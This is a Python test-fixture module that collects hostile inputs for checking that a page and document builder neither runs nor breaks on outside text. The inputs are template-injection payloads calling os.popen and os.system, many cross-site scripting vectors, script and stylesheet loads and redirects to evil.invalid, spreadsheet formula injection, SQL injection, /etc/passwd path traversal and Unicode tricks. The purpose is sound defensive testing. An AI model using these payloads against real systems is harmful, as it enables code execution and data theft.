"""What a text from outside may try, in one place: every page, picture and document is put through all of it.

None of it may run while something is built or viewed (`window.pwned`, a dialog, a request or the file `MARKER` would
prove it), none may break what it stands in, and all of it is shown as it came (`shown` says what a page can show of it).
"""

from __future__ import annotations

import re
from pathlib import Path

MARKER = Path("/tmp/geo_pwned")
RUN = "window.pwned=1"

TEMPLATES = (
    "{{ 7*7 }}", "{% raw %}", "{# comment #}", "{{", "}}", "{%", "%}", "{#", "#}", "{% include '/etc/passwd' %}",
    "{{ cycler.__init__.__globals__.os.popen('touch /tmp/geo_pwned') }}", "{{'a'.constructor.prototype}}",
    "{{ lipsum.__globals__['os'].system('touch /tmp/geo_pwned') }}", "{{constructor.constructor('window.pwned=1')()}}",
    "{%- for x in [].__class__.__base__.__subclasses__() -%}", "{% endmacro %}{% macro html(this, kwargs) %}",
    "<%= 7*7 %>", "${{7*7}}", "#{7*7}", "%(pwned)s %s %n", "{0.__class__.__init__.__globals__}", "$pwned ${pwned}",
)  # fmt: skip
SCRIPTS = (
    "</script><script>window.pwned=1</script>", "<ScRiPt >window.pwned=1</sCrIpT>", "<img src=x onerror=window.pwned=1>",
    "<script src=//evil.invalid/x.js></script>", "<svg onload=window.pwned=1>", "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>", "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>", "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<object data='javascript:window.pwned=1'></object>", "<a href='javascript:window.pwned=1'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>", "<img src=http://evil.invalid/x.png>",
    "javascript:window.pwned=1", "data:text/html,<script>parent.pwned=1</script>", "`${window.pwned=1}`", "${window.pwned=1}",
    "`;window.pwned=1;`", "'-window.pwned=1-'", "'; window.pwned=1; //", "\");window.pwned=1;//", "\\';window.pwned=1;//",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e", "\\x3cimg src=x onerror=window.pwned=1\\x3e",
    "\u2028window.pwned=1\u2029", "'\"><script>alert(1)</script>",
)  # fmt: skip
ENDS = (
    '"><script>window.pwned=1</script>', "\" onmouseover=window.pwned=1 x=\"", "</title><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>", "</noscript><script>window.pwned=1</script>", "</textarea>", "<plaintext>",
    "<!--", "-->", "<!--<script>", "]]>", "<![CDATA[", "<?xml version='1.0'?>", "</svg></figure></main>", "&lt;script&gt;",
    "&amp;lt;", "&#x3c;b&#x3e;", "<b>", "<base href=//evil.invalid>", "\\", "%3Cscript%3E",
)  # fmt: skip
STYLES = (
    "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.invalid/x.css>", "}*{background:url(//evil.invalid/y)}",
    "red;background:url(//evil.invalid/z)", "expression(window.pwned=1)", "url(#p0)",
)  # fmt: skip
SIGNS = (
    "\u202egnp.exe", "\u2066left\u2069 \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627", "e\u0301\u0323\u0317\u0327",
    "Київ ///\u00a0Kyiv", "\u200bzero\u200dwidth\ufeff", "🏳️‍🌈 地図", "\x1b[31mred\x1b[0m", "W" * 400,
)  # fmt: skip
OTHERS = (
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.invalid\",\"x\")", "'); DROP TABLE control; --", "../../etc/passwd",
    "__proto__", "constructor", "NaN",
)  # fmt: skip
HOSTILE = (*TEMPLATES, *SCRIPTS, *ENDS, *STYLES, *SIGNS, *OTHERS)
# what Markdown, office formats and shells make something of; some have signs that no XML can hold
NASTY = (*HOSTILE, "| a | b |", "`code` ***bold*** ~~out~~ $x^2$ ![i](j)", "=cmd()", "1. one", "- item", "# head",
         "null\x00 bell\x07 \ufffe", "{% include x %}", "[a]: http://x", "line\nbreak", "\ud800")  # fmt: skip


def shown(text: str) -> str:
    """The text as a page can show it: HTML has no sign for NUL, UTF-8 none for half a surrogate pair."""
    return "".join("\ufffd" if c == "\0" or "\ud800" <= c <= "\udfff" else c for c in text)


def unturned(text: str) -> str:
    """The text without signs of direction: a name in a sentence may turn no word around it, and stands isolated."""
    return re.sub("[\u202a-\u202e\u2066-\u2069]", "", text)
